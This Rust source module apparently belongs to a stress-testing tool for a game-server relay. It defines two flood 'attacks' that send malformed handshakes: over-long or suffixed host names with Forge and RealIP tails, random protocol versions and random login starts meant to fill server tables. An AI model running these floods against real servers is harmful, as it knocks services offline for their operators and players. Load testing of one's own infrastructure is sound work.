//! Host names: with the tails that mod loaders and proxies append, and random ones.

use std::net::Ipv4Addr;

use uuid::Uuid;

use super::floods::{Answers, hello};
use super::{Attack, Ground, Move, Plan, Strike};
use crate::random::Random;
use crate::wire::{Intent, put_handshake, put_login_start, put_packet};

/// Longest name that a handshake may carry, and one that is too long.
const NAME_UNITS_MAX: usize = 255;

/// Names with Forge's and RealIP's suffixes and long tails after them.
pub(super) struct Tails(Ground);

impl Tails {
    pub(super) fn new(ground: &Ground) -> Self {
        Self(ground.clone())
    }
}

impl Attack for Tails {
    fn plan(&self) -> Plan {
        Plan::flood(3_000.0)
    }

    fn strike(
        &mut self,
        number: u64,
        _: Option<Ipv4Addr>,
        _: &mut Random,
        output: &mut Vec<u8>,
    ) -> (Box<dyn Strike>, Move) {
        let host = &self.0.relay_host;
        let mut name = match number % 4 {
            0 => format!("{host}\0FML3\0{}", "\0".repeat(220)),
            1 => format!("{host}///192.0.2.7:1///{}", "///1700000000".repeat(16)),
            2 => format!("{host}///{}", "\u{FFFD}".repeat(220)),
            // A tail that the field does not hold.
            _ => format!("{host}\0{}", "x".repeat(2_000)),
        };
        if number % 4 != 3 {
            name = name.chars().take(NAME_UNITS_MAX).collect();
        }
        put_handshake(output, 772, &name, self.0.server.port(), Intent::Status);
        put_packet(output, 0x00, |_| {});
        (Box::new(Answers::new(1)), Move::Stay)
    }
}

/// Another name and another version with every connection, from ever more addresses.
pub(super) struct Names(Ground);

impl Names {
    pub(super) fn new(ground: &Ground) -> Self {
        Self(ground.clone())
    }
}

impl Attack for Names {
    fn plan(&self) -> Plan {
        Plan::flood(4_000.0)
    }

    fn strike(
        &mut self,
        number: u64,
        _: Option<Ipv4Addr>,
        random: &mut Random,
        output: &mut Vec<u8>,
    ) -> (Box<dyn Strike>, Move) {
        let word = random.next_u64();
        let hello = hello(&self.0, &self.0.relay_host);
        let host = match number % 3 {
            0 => hello.host,
            1 => format!("{word:x}.{}", hello.host),
            _ => format!("{word:x}.example.net"),
        };
        #[expect(clippy::cast_possible_truncation, reason = "any version will do")]
        let protocol = if number.is_multiple_of(2) {
            word as i32
        } else {
            772
        };
        let intent = if number.is_multiple_of(5) {
            Intent::Login
        } else {
            Intent::Status
        };
        // The one name that would be let in pings only: what is attacked are tables, not targets.
        let intent = if number.is_multiple_of(3) {
            Intent::Status
        } else {
            intent
        };
        put_handshake(output, protocol, &host, hello.port, intent);
        if intent == Intent::Login {
            put_login_start(
                output,
                &format!("N{:x}", word >> 16),
                Uuid::from_u64_pair(6, word),
            );
        } else {
            put_packet(output, 0x00, |_| {});
        }
        (Box::new(Answers::new(1)), Move::Stay)
    }
}
